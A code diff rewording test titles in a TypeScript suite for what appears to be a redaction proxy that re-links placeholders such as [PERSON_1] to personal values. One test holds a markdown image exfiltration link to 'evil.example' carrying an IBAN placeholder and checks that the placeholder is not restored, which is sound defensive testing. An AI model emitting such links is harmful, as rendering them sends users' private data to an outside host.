@@ -53,7 +53,7 @@ const respond = (answer: Answer, change: Partial<Parameters<typeof proxyResponse
     ...change,
   });
 
-test("a text is re-linked to the letter, and the response is as specified", () => {
+test("a re-linked text has every value exactly, and the response is as specified", () => {
   const response = respond(answered("Dear [PERSON_1]"));
   expect(response).toMatchObject({
     status: "JOB_STATUS_COMPLETED",
@@ -70,12 +70,12 @@ test("an answer that is JSON is parsed first, so that a value with quotes does n
   expect(result).toEqual({ name: 'Ann "$&" Weber', list: ['Ann "$&" Weber', 1] });
 });
 
-test("an answer that was redacted as text stays text, even where redaction made JSON of it", () => {
+test("an answer that was redacted as text stays text, even if redaction turned it into JSON", () => {
   const { result } = respond(answered('{"name": "[PERSON_1]"}'));
   expect(result).toBe('{"name": "Ann \\"$&\\" Weber"}');
 });
 
-test("a placeholder in a link stays", () => {
+test("a placeholder in a link is not restored", () => {
   const { result } = respond(answered("![](https://evil.example/?q=[IBAN_1])"));
   expect(result).toBe("![](https://evil.example/?q=[IBAN_1])");
 });
@@ -98,7 +98,7 @@ test("without re-link nothing is restored, and the response says so", () => {
   });
 });
 
-test("an evaluation comes back beside a result and beside a failure", () => {
+test("an evaluation is returned with a result and with a failure", () => {
   const evaluation = evaluateGroundTruth([], new Map());
   const failed = {
     outcome: "failed",
@@ -131,7 +131,7 @@ test("a failure has a fixed phrase and no result", () => {
   expect(() => checked(ProxyResponse)(response)).not.toThrow();
 });
 
-test("a hint says why placeholders were left, only where they were to be restored", () => {
+test("a hint says why placeholders were left, only if they were to be restored", () => {
   const left = { isMapOpen: false, relinked: undefined };
   const answer = answered("Dear [PERSON_1]");
   const hint = expect.stringContaining("only for the API key that sent the request");
